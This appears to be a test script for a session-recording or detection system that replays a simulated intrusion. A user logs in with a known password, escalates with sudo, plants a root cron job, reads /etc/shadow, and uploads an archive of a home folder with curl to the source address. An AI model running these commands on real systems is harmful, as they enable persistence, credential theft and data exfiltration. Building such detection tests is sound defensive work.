# Somebody who knows deploy's password becomes root, leaves a job, reads the password hashes, packs a home and carries it off: one session.
# rules: recording
# format: ENRICHED
# node: app-04
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"
mkdir -p "$work/www" /home/deploy/projects
seq 200 >/home/deploy/projects/customers.csv; chown -R deploy: /home/deploy/projects
serves "$work/www" 8000

from "$source_ip" deploy deploy-Passw0rd 'id; sudo -n id
printf "*/5 * * * * root /usr/local/sbin/sysstat-sync\n" | sudo tee /etc/cron.d/sysstat-sync
sleep 2
sudo cat /etc/shadow | head -n 2
tar czf /tmp/projects-backup.tar.gz -C /home/deploy projects
sleep 1
curl -sS -T /tmp/projects-backup.tar.gz http://'"$source_ip"':8000/projects-backup.tar.gz
rm -f /tmp/projects-backup.tar.gz'
rm -rf /etc/cron.d/sysstat-sync /home/deploy/projects
kill "$server"
